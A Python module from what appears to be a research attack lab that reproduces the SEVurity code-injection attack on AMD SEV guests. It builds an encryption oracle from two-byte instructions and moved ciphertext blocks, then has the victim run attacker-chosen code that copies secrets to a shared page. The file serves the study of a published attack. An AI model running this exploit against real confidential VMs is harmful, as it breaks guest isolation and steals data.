"""A10, case 3: code of two-byte instructions, where the victim stores nothing that the host may choose."""

from __future__ import annotations

import struct
from typing import Final

from cbit.attacks.experiments.code_injection import HOLDS, PAYLOAD, booting, wait_for
from cbit.attacks.experiments.known_constants import EXPECT, PARAMETERS, SETUP, SETUPS, fresh
from cbit.attacks.experiments.two_bytes import (
    LONGEST_NUMBER,
    PAIR,
    PUSH,
    PUSH_SYNC,
    Whole,
    Writer,
    number,
)
from cbit.attacks.lab.assemble import assemble
from cbit.attacks.lab.attack import attack
from cbit.attacks.lab.corpus import Corpus, difference, xor
from cbit.attacks.lab.hands import Hands
from cbit.attacks.lab.log import AGREES, Log
from cbit.attacks.lab.scene import Facts
from cbit.attacks.lab.tools import Thwarted
from cbit.guest.builtin.interface import SHOWN
from cbit.spec.address import BLOCK, PAGE

#: Of three bytes, with a jump whose distance is the byte behind it.
_BSWAP_RDI, _OR_RDI_RSI = b"\x48\x0f\xcf\xeb", b"\x48\x09\xf7\xeb"
_JUMPS_FROM: Final = 5  # in the block
_DEEPEST: Final = 8  # blocks of the stack that may hold an encrypted instruction


@attack(
    title="SEVurity: code out of two bytes a block",
    experiment="E6",
    paper="Wilke et al., SEVurity, S&P 2020 (attacks.md A10, case 3)",
    holds=HOLDS,
    expect=EXPECT,
    defences=fresh("the victim crashed"),
    victim=booting,
    setup=SETUP,
    setups=SETUPS,
    parameters=PARAMETERS,
)
def code_chain(hands: Hands, facts: Facts, log: Log) -> bytes:
    """Write programs of two-byte instructions over the victim's code; with them, write any code at all.

    1. Blocks are moved: every second one ends with an instruction, the others begin with a jump to the end of
       the next one.  Two chosen bytes in a block are enough for both.
    2. ``push rdi; hlt``: the page that faults at the push is the stack, and the block of it whose ciphertext
       changes is where rSP points.  Neither registers nor emulated results are used.
    3. ``xor``, ``inc`` and ``shl`` build any number of 32 bits in edi, ``push`` encrypts it: an oracle for
       four bytes.
    4. Four bytes are an instruction with a REX prefix and the opcode of a jump.  Its distance is what the
       tweaks make of a zero, so it has to stand where that is useful.  ``bswap rdi`` and ``or rdi, rsi``
       make a number of 64 bits of two of 32, and two pushes encrypt it: an oracle for sixteen bytes.
    5. What it has encrypted is code of the adversary's choice, and copies the secrets to a shared page.
    """
    start = facts.number("routine") + BLOCK
    wait_for(hands, start & -PAGE, log)
    corpus = Corpus(hands.memory, facts.number("kernel_at"), facts.data("kernel"), xe=False)
    writer = Writer(hands, corpus, start)
    writer.find_stack(log)
    oracle = _Oracle(hands, writer, log)
    code = assemble(PAYLOAD, writer.first)
    code += bytes(-len(code) % BLOCK)
    before, program = writer.moved, []
    for at in range(0, len(code), BLOCK):
        program.append(oracle.encrypt(code[at : at + BLOCK], writer.first + at))
        log.step(f"block {at // BLOCK}: ciphertext of the adversary's code", program[-1].cells)
    moved = (writer.moved - before) // len(program)
    writer.run(program, pushed=0)
    loot = hands.service.shared(SHOWN, PAGE)
    log.step("the victim has run that code", loot)
    log.figure(
        "rounds for a number of 32 bits, at most",
        oracle.rounds,
        published="at most 31",
        source="SEVurity §VI-C (attacks.md A10 step 7)",
        difference=AGREES,
    )
    log.figure(
        "useful bytes in each 32 bytes of code",
        round(PAIR * writer.useful / writer.stretch, 3),
        "bytes",
        published="2, in every second block",
        source="SEVurity §IV-D, Fig. 3 (attacks.md A10 step 4)",
        difference="a place that no block serves is jumped over",
    )
    log.figure(
        "blocks moved for each chosen block of 16 bytes",
        moved,
    )
    log.figure("blocks moved in all", writer.moved)
    return loot


class _Oracle:
    """Lets the victim encrypt.

    Mutable.

    Attributes:
        rounds: the most that a number of 32 bits has taken.
    """

    def __init__(self, hands: Hands, writer: Writer, log: Log) -> None:
        """Find places for the four long instructions that sixteen bytes take, and have them encrypted."""
        self._hands, self._writer = hands, writer
        self.rounds = 0
        at, self._long = writer.first + PAIR, list[Whole]()
        for instruction in (_BSWAP_RDI, _OR_RDI_RSI) * 2:
            self._long.append(self._placed(instruction, at + LONGEST_NUMBER))
            at = self._long[-1].then + PAIR * (instruction == _OR_RDI_RSI)
        log.step(
            "four bytes at a time: `bswap rdi` and `or rdi, rsi`, twice, are encrypted for "
            + ", ".join(f"{whole.at:#x}" for whole in self._long),
            b"".join(whole.cells for whole in self._long),
        )

    def _placed(self, instruction: bytes, earliest: int) -> Whole:
        """Find a place where what follows an instruction jumps to a block's beginning."""
        for at in range(earliest, earliest + 64 * PAIR, PAIR):
            for depth in range(1, _DEEPEST + 1):
                source, target = self._writer.stack - BLOCK * depth, self._hands.memory.spa(at)
                change = difference(source, target)
                (distance,) = struct.unpack_from("b", change, len(instruction))
                if distance > 0 and (_JUMPS_FROM + distance) % BLOCK == 0:
                    (word,) = struct.unpack("<I", xor(instruction, change[: len(instruction)]))
                    return Whole(self._four(word, depth), source, at, at + _JUMPS_FROM + distance)
        raise Thwarted("no place for an instruction of three bytes")

    def _built(self, register: str, value: int) -> list[bytes]:
        self.rounds = max(self.rounds, value.bit_length() - 1)
        return number(register, value)

    def _four(self, word: int, depth: int) -> bytes:
        """Encrypt four bytes, four zeros, and the same again, so many blocks below the top of the stack."""
        # The return address fills half a block: one push for the other half, two for each block below.
        pushes = 1 + 2 * depth
        self._writer.run([*self._built("edi", word), *[PUSH] * (pushes - 1), PUSH_SYNC], pushed=pushes)
        return self._hands.memory.read(self._writer.stack - BLOCK * depth, BLOCK)

    def encrypt(self, block: bytes, at: int) -> Whole:
        """Encrypt sixteen bytes that are to stand at a guest physical address."""
        source, target = self._writer.stack - BLOCK, self._hands.memory.spa(at)
        low, high = struct.unpack("<2Q", xor(block, difference(source, target)))
        program: list[bytes | Whole] = [PUSH]
        for value, (swap, join), push in ((high, self._long[:2], PUSH), (low, self._long[2:], PUSH_SYNC)):
            swapped = int.from_bytes((value >> 32).to_bytes(4, "little"), "big")
            lower = value & 0xFFFF_FFFF
            program += [*self._built("edi", swapped), swap, *self._built("esi", lower), join, push]
        self._writer.run(program, pushed=3)
        return Whole(self._hands.memory.read(source, BLOCK), source, at, at + BLOCK)
